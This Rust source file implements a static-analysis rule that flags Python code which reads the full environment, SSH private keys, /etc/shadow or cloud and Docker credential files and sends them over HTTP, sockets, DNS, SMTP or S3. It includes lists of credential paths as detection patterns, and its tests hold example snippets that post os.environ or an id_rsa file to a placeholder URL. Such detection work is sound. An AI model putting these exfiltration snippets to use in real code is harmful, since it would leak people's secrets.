//! The whole environment, or a file with keys, and then a call that sends something away.

use std::sync::LazyLock;

use crate::meaning::python::{Interest, Piece, Program, Spread, Value};
use crate::model::{Confidence, Severity};
use crate::rules::{Fail, Out};
use crate::syntax::python::{
    ExprId, ExprKind, Operator, Parent, ScopeId, ScopeKind, StmtKind, Symbol, Tree,
};

/// What a program has in it that may read one of them; what has none of these is not looked at.
const HINTS: [&str; 18] = [
    "environ",
    "/proc",
    ".ssh",
    "id_",
    "credentials",
    "secrets",
    ".env",
    ".kube",
    ".docker",
    ".netrc",
    ".pgpass",
    "shadow",
    "subprocess",
    "popen",
    "printenv",
    "getattr",
    "__dict__",
    "decode",
];

/// Names in programs that may send something.
const SENDERS: [&str; 18] = [
    "requests",
    "httpx",
    "aiohttp",
    "urllib",
    "urllib2",
    "urllib3",
    "http",
    "socket",
    "dns",
    "smtplib",
    "ftplib",
    "websocket",
    "paramiko",
    "boto3",
    "getattr",
    "import_module",
    "__import__",
    "decode",
];

/// Calls that send what they are given, by objects and their methods.
const SENDING: [(&str, &[&str]); 26] = [
    ("requests", HTTP),
    ("requests.api", HTTP),
    ("requests.Session()", HTTP),
    ("requests.session()", HTTP),
    ("requests.sessions.Session()", HTTP),
    ("httpx", HTTP),
    ("httpx.Client()", HTTP),
    ("httpx.AsyncClient()", HTTP),
    ("aiohttp", &["request"]),
    ("aiohttp.ClientSession()", HTTP),
    ("urllib.request", &["urlopen", "Request", "urlretrieve"]),
    ("urllib2", &["urlopen", "Request"]),
    ("urllib3", &["request"]),
    ("urllib3.PoolManager()", &["request", "urlopen"]),
    ("http.client.HTTPConnection()", &["request", "send"]),
    ("http.client.HTTPSConnection()", &["request", "send"]),
    ("socket.socket()", SOCKET),
    ("socket.create_connection()", SOCKET),
    (
        "socket",
        &["gethostbyname", "getaddrinfo", "gethostbyname_ex"],
    ),
    ("dns.resolver", &["resolve", "query"]),
    ("smtplib.SMTP()", &["sendmail", "send_message"]),
    ("smtplib.SMTP_SSL()", &["sendmail", "send_message"]),
    ("ftplib.FTP()", &["storbinary", "storlines"]),
    ("websocket.create_connection()", &["send"]),
    ("paramiko.SFTPClient()", &["put", "putfo"]),
    (
        "boto3.client()",
        &["put_object", "upload_file", "upload_fileobj"],
    ),
];
const HTTP: &[&str] = &[
    "get", "post", "put", "patch", "delete", "head", "options", "request", "stream",
];
const SOCKET: &[&str] = &["send", "sendall", "sendto", "sendmsg"];

/// The same as it is looked for.
static ASKED: LazyLock<Interest> = LazyLock::new(|| {
    let mut interest = Interest::default();
    for (of, methods) in SENDING {
        for method in methods {
            interest.add_name(&format!("{of}.{method}"), 0);
        }
    }
    interest
});

/// The environment of the process by its qualified names.
const ENVIRONMENTS: [&str; 2] = ["os.environ", "os.environb"];

/// Functions that open a file by its path.
const OPENING: [&str; 7] = [
    "open",
    "os.open",
    "aiofiles.open",
    "pathlib.Path().open",
    "pathlib.Path().read_text",
    "pathlib.Path().read_bytes",
    "linecache.getlines",
];

/// Functions that run a command and give back what it writes.
const RUNNING: [&str; 5] = [
    "subprocess.check_output",
    "subprocess.getoutput",
    "subprocess.run",
    "subprocess.Popen",
    "os.popen",
];

/// The environment, and what reads files and runs commands, as they are looked for.
static READ: LazyLock<Interest> = LazyLock::new(|| {
    let mut interest = Interest::default();
    for name in ENVIRONMENTS.iter().chain(&OPENING).chain(&RUNNING) {
        interest.add_name(name, 0);
    }
    interest
});

/// A path that is put together over more names than these is not followed.
const MOST_NAMES: usize = 8;

/// What is read.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Secret {
    /// The environment of this process or of another.
    Environment,
    /// A private key, or the passwords of the machine.
    Key,
    /// What a program signs in with somewhere: one that is made for it may read it.
    Credential,
}

pub(super) fn check(program: &Program<'_>, out: &mut Out<'_>) {
    let says = |hint: &&str| program.code().contains(*hint);
    let has = |word: &&str| program.tree().has_word(word);
    if !SENDERS.iter().any(has) || !HINTS.iter().any(says) {
        return;
    }
    let found = program.find(&ASKED);
    if found.is_empty() {
        return;
    }
    let sources = sources(program);
    if sources.is_empty() {
        return;
    }
    let ends = || found.iter().map(|call| call.id);
    for kind in [Secret::Environment, Secret::Key, Secret::Credential] {
        let of_kind: Vec<ExprId> = sources
            .iter()
            .filter(|(_, own)| *own == kind)
            .map(|(id, _)| *id)
            .collect();
        if of_kind.is_empty() {
            continue;
        }
        let spread = Spread::new(program, &of_kind, ends());
        for call in found.iter().filter(|call| !call.is_reference) {
            let Some((_, name)) = call.asked.first() else {
                continue;
            };
            let ExprKind::Call(_, args, keywords) = program.tree().kind(call.id) else {
                continue;
            };
            let keywords = program.tree().keywords(keywords).iter();
            let mut given = program.tree().list(args).iter().copied();
            let mut is_sent = given.any(|arg| spread.holds(arg));
            let mut signs_in = false;
            for keyword in keywords.filter(|keyword| spread.holds(keyword.value)) {
                let name = keyword.name.map_or("", |name| program.tree().name(name));
                // To sign in with it is what it is for.
                let is_for_that = matches!(name, "headers" | "auth" | "cert" | "cookies");
                signs_in |= is_for_that;
                is_sent |= !is_for_that || kind != Secret::Credential;
            }
            if signs_in && !is_sent && !program.is_generated() {
                continue;
            }
            is_sent |= signs_in;
            let near = of_kind
                .iter()
                .find(|id| function_of(program, **id) == function_of(program, call.id));
            let source = if is_sent { of_kind.first() } else { near };
            let Some(source) = near.or(source) else {
                continue;
            };
            if !is_sent && spread.feeds_processes() {
                continue;
            }
            report(program, out, call.id, name, *source, kind, is_sent);
        }
    }
}

fn report(
    program: &Program<'_>,
    out: &mut Out<'_>,
    call: ExprId,
    name: &str,
    source: ExprId,
    kind: Secret,
    is_sent: bool,
) {
    let most = match (program.is_generated(), kind, is_sent) {
        (true, ..) => Severity::Critical,
        (false, Secret::Environment | Secret::Key, true) => Severity::High,
        (false, Secret::Environment | Secret::Key, false) => Severity::Low,
        (false, Secret::Credential, true) => Severity::Medium,
        (false, Secret::Credential, false) => return,
    };
    let key = match (kind, is_sent) {
        (Secret::Environment, true) => "default",
        (Secret::Environment, false) => "environment-beside",
        (_, true) => "file",
        (_, false) => "file-beside",
    };
    let read = out.site(program.tree().range(source)).span();
    let around = program.surroundings(call);
    let method = name.rsplit('.').next().unwrap_or(name);
    let mut fail = Fail::new(key, out.site(program.tree().range(call)))
        .role(format!("{around}/{method}"))
        .arg("call", name)
        .related(read)
        .at_most(most);
    if !is_sent {
        fail = fail.confidence(Confidence::Medium);
    }
    out.fail(fail);
}

/// The function around an expression.
fn function_of(program: &Program<'_>, id: ExprId) -> ScopeId {
    let tree = program.tree();
    let mut scope = tree.expr(id).scope;
    while matches!(tree.scope(scope).kind, ScopeKind::Comprehension(_)) {
        scope = tree.scope(scope).parent;
    }
    scope
}

/// Where a program reads one of them.
fn sources(program: &Program<'_>) -> Vec<(ExprId, Secret)> {
    let tree = program.tree();
    let kin = program.kin(&READ);
    let ids = tree.expr_ids();
    ids.filter_map(|id| {
        let may_read = match tree.kind(id) {
            ExprKind::Call(func, ..) => kin.holds(id) || kin.holds(func) || opens(tree, func),
            _ => kin.holds(id),
        };
        if !may_read {
            return None;
        }
        let kind = match tree.kind(id) {
            ExprKind::Name(_) | ExprKind::Attribute(..) | ExprKind::Subscript(..) => {
                is_environment(program, id).then_some(Secret::Environment)
            }
            ExprKind::Call(func, args, _) => {
                let args = tree.list(args);
                is_environment(program, id)
                    .then_some(Secret::Environment)
                    .or_else(|| read(program, func, args))
            }
            _ => None,
        };
        kind.map(|kind| (id, kind))
    })
    .collect()
}

/// The environment as a whole, and not one variable of it.
fn is_environment(program: &Program<'_>, id: ExprId) -> bool {
    let tree = program.tree();
    let names = program.names_of(id);
    if !names.iter().any(|name| ENVIRONMENTS.contains(&&**name)) {
        return false;
    }
    let Parent::Expr(parent) = tree.parent(id) else {
        return true;
    };
    match tree.kind(parent) {
        ExprKind::Attribute(_, name) => {
            matches!(tree.name(name), "copy" | "items" | "values" | "_data")
        }
        ExprKind::Subscript(of, _) => of != id,
        ExprKind::Compare(..) => false,
        _ => true,
    }
}

/// What a call reads by a path or with a command.
fn read(program: &Program<'_>, func: ExprId, args: &[ExprId]) -> Option<Secret> {
    let tree = program.tree();
    let names = program.names_of(func);
    let is_one = |list: &[&str]| names.iter().any(|name| list.contains(&&**name));
    if is_one(&RUNNING) {
        let command = args.first().map(|arg| program.value(*arg))?;
        let words = command.values.iter().flat_map(|value| match value {
            Value::Items(items) => items
                .first()
                .map_or(Vec::new(), |first| first.strings().collect()),
            _ => value.string().into_iter().collect(),
        });
        let first = |text: &str| {
            text.split_whitespace()
                .next()
                .unwrap_or_default()
                .to_owned()
        };
        return words
            .map(|text| first(&text))
            .any(|word| matches!(word.as_str(), "env" | "printenv" | "/usr/bin/env"))
            .then_some(Secret::Environment)
            .filter(|_| command.strings().all(|text| !text.contains('=')));
    }
    let of_path = match tree.kind(func) {
        ExprKind::Attribute(of, _) if opens(tree, func) => Some(of),
        _ => None,
    };
    let path = match of_path {
        Some(of) if !is_one(&["os.open", "aiofiles.open"]) => of,
        _ if is_one(&OPENING) => *args.first()?,
        _ => return None,
    };
    paths(program, path).iter().find_map(|path| in_file(path))
}

/// Whether what is called is a method that reads or opens the file of a path.
fn opens(tree: &Tree, func: ExprId) -> bool {
    matches!(tree.kind(func), ExprKind::Attribute(_, name)
        if matches!(tree.name(name), "read_text" | "read_bytes" | "open"))
}

/// The paths that an expression may be, with `*` for what is not known of them.
fn paths(program: &Program<'_>, id: ExprId) -> Vec<String> {
    let value = program.value(id);
    let texts = value.values.iter().filter_map(|value| match value {
        Value::Text(pieces) => Some(
            pieces
                .iter()
                .map(|piece| match piece {
                    Piece::Known(text) => text,
                    Piece::Hole { .. } => "*",
                })
                .collect::<String>(),
        ),
        _ => None,
    });
    let mut found: Vec<String> = texts.collect();
    if found.is_empty() {
        found.push(divided(program, id));
    }
    found
}

/// `Path.home() / ".ssh" / "id_rsa"`
fn divided(program: &Program<'_>, id: ExprId) -> String {
    let tree = program.tree();
    let mut parts = Vec::new();
    let mut waiting = vec![id];
    let mut followed = 0;
    while let Some(next) = waiting.pop() {
        match tree.kind(next) {
            ExprKind::Binary(Operator::Other | Operator::Add, left, right) => {
                waiting.extend([right, left]);
            }
            ExprKind::Call(func, args, _) => match tree.kind(func) {
                ExprKind::Attribute(of, name) if tree.list(args).is_empty() => {
                    if matches!(tree.name(name), "expanduser" | "resolve" | "absolute") {
                        waiting.push(of);
                    } else {
                        parts.push("*".to_owned());
                    }
                }
                ExprKind::Attribute(of, name) if tree.name(name) == "joinpath" => {
                    waiting.extend(tree.list(args).iter().rev());
                    waiting.push(of);
                }
                _ => waiting.extend(tree.list(args).iter().rev()),
            },
            kind => {
                let text = program.value(next).strings().next();
                let given = match kind {
                    ExprKind::Name(name) if text.is_none() && followed < MOST_NAMES => {
                        given_to(program, name, tree.expr(next).scope)
                    }
                    _ => None,
                };
                match given {
                    Some(given) => {
                        followed += 1;
                        waiting.push(given);
                    }
                    None => {
                        parts.push(text.map_or_else(|| "*".to_owned(), |text| text.to_string()));
                    }
                }
            }
        }
    }
    parts.join("/")
}

/// What a name is given in its scope, where that is one thing.
fn given_to(program: &Program<'_>, name: Symbol, scope: ScopeId) -> Option<ExprId> {
    let tree = program.tree();
    let mut given = tree.stmt_ids().filter_map(|id| match &tree.stmt(id).kind {
        StmtKind::Assign { targets, value } if tree.scope_of_stmt(id) == scope => {
            let mut targets = tree.list(*targets).iter();
            let is_it =
                |target: &ExprId| matches!(tree.kind(*target), ExprKind::Name(own) if own == name);
            targets.any(is_it).then_some(*value)
        }
        _ => None,
    });
    let first = given.next()?;
    given.next().is_none().then_some(first)
}

/// What a file is, by its path.
fn in_file(path: &str) -> Option<Secret> {
    let path = path.replace('\\', "/").replace("//", "/").to_lowercase();
    let name = path.rsplit('/').next().unwrap_or_default();
    let ends = |ends: &[&str]| ends.iter().any(|end| path.ends_with(end));
    if path.starts_with("/proc/") && name == "environ" {
        return Some(Secret::Environment);
    }
    let is_private = path.contains(".ssh/") && name.starts_with("id_") && !ends(&[".pub"]);
    if is_private || path == "/etc/shadow" {
        return Some(Secret::Key);
    }
    let is_credential = ends(&[
        ".aws/credentials",
        ".kube/config",
        ".docker/config.json",
        "application_default_credentials.json",
        ".azure/msal_token_cache.json",
    ]) || matches!(
        name,
        ".netrc" | ".pgpass" | ".git-credentials" | ".vault-token" | ".env"
    ) || name.starts_with(".env.")
        || path.starts_with("/run/secrets/")
        || path.starts_with("/var/run/secrets/");
    is_credential.then_some(Secret::Credential)
}

#[cfg(test)]
mod tests {
    use super::{Secret, in_file};
    use crate::meaning::programs::Runtime;
    use crate::model::Severity;
    use crate::rules::testing::said;

    fn of(code: &str, is_generated: bool) -> Vec<(&'static str, Severity)> {
        let code = format!("import os, json, requests\nfrom pathlib import Path\n{code}");
        said("PY908", &code, Runtime::Host, is_generated)
    }

    #[test]
    fn the_environment_is_followed_to_where_it_is_sent() {
        let ways = [
            "requests.post(u, json=dict(os.environ))",
            "requests.post(u, json={**os.environ})",
            "requests.post(u, json={k: v for k, v in os.environ.items()})",
            "requests.post(u, data=f'{os.environ}')",
            "requests.post(u, data=str(getattr(os, 'env' + 'iron')))",
            "from os import environ as e\nrequests.post(u, json=dict(e))",
            "data = os.environ.copy()\nbody = {'all': data}\nrequests.post(u, json=body)",
            "def a():\n    return dict(os.environ)\ndef b(x):\n    requests.post(u, json=x)\nb(a())",
            "parts = []\nfor k, v in os.environ.items():\n    parts.append(k + v)\nrequests.post(u, data='\\n'.join(parts))",
            "class A:\n    def a(self):\n        self.x = dict(os.environ)\n    def b(self):\n        requests.post(u, json=self.x)",
            "import subprocess\nrequests.post(u, data=subprocess.check_output(['env']))",
            "requests.post(u, data=open('/proc/self/environ').read())",
            "p = Path('/proc') / 'self' / 'environ'\nrequests.post(u, data=p.read_bytes())",
        ];
        for way in ways {
            assert_eq!(of(way, true), [("default", Severity::Critical)], "{way}");
            assert_eq!(of(way, false), [("default", Severity::High)], "{way}");
        }
    }

    #[test]
    fn one_value_may_be_sent_and_processes_have_environments() {
        let fine = [
            "requests.post(u, json=os.environ['A'])",
            "requests.post(u, json=os.environ.get('A'))",
            "import subprocess\nsubprocess.run(['a'], env=dict(os.environ))\nrequests.get(u)",
            "import subprocess\ne = os.environ.copy()\ne['A'] = 'b'\nout = subprocess.run(['a'], env=e).stdout\nrequests.post(u, data=out)",
            "def a():\n    return len(os.environ)\ndef b():\n    requests.post(u, json=a())",
            "os.environ['A'] = requests.get(u).text",
            "SECRETS = ['/proc/self/environ', '~/.ssh/id_rsa']\nrequests.get(u)",
        ];
        for code in fine {
            assert_eq!(of(code, true), [], "{code}");
        }
    }

    #[test]
    fn keys_are_known_by_their_paths() {
        let key = "p = os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')\nrequests.post(u, data=open(p).read())";
        assert_eq!(of(key, true), [("file", Severity::Critical)]);
        let beside = "def a(r):\n    x = Path('/run/secrets/db').read_text()\n    requests.get(u)";
        assert_eq!(of(beside, true), [("file-beside", Severity::Critical)]);
        assert_eq!(of(beside, false), []);
        for (path, is_known) in [
            ("/home/a/.ssh/id_rsa", true),
            ("~/.ssh/id_ed25519.pub", false),
            ("/etc/shadow", true),
            ("C:\\Users\\a\\.ssh\\id_rsa", true),
            ("/srv/shadow", false),
            ("docs/environ", false),
        ] {
            let found = in_file(path);
            assert_eq!(
                found.is_some_and(|kind| kind == Secret::Key),
                is_known,
                "{path}"
            );
        }
        assert!(in_file("/srv/app/.env").is_some_and(|kind| kind == Secret::Credential));
    }
}
